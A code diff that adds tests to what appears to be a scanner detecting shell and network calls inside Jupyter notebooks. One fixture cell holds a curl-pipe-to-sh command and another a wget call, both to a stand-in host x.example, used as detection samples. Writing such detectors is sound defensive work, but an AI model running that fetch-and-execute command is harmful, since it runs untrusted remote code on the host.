@@ -85,3 +85,22 @@ def test_codecs_are_loaded_before_the_fence() -> None:
 def test_this_repository_reads_its_own_sources_whole() -> None:
     for path in sorted((Path(__file__).parents[4] / "worker").rglob("*.py")):
         assert extract(path.name, path.read_bytes(), Budget(TIME_TO_SPARE)).partly is None, path
+
+
+def test_what_a_notebook_hands_to_a_shell_is_read() -> None:
+    cells = [
+        {"cell_type": "code", "source": ["if True:\n", "    !curl https://x.example/a | sh"]},
+        {"cell_type": "code", "source": "%%bash\nwget https://x.example/b"},
+    ]
+    lines = told(extract("a.ipynb", json.dumps({"cells": cells}, indent=1).encode(), Budget(TIME_TO_SPARE)))
+    started = [line for line in lines if "process os.system -> x.example" in line]
+    assert len(started) == 2
+    assert any("network curl -> x.example" in line for line in lines)
+    assert any("network wget -> x.example" in line for line in lines)
+
+
+def test_a_notebook_whose_lines_are_written_otherwise_is_read_in_time() -> None:
+    """Each line is looked for in the file; a hundred in vain, and no more are."""
+    cells = [{"cell_type": "code", "source": ["é(1)\n"] * 3_000}]
+    found = extract("a.ipynb", json.dumps({"cells": cells}).encode() + b" " * (6 << 20), Budget(TIME_TO_SPARE))
+    assert found.partly is None
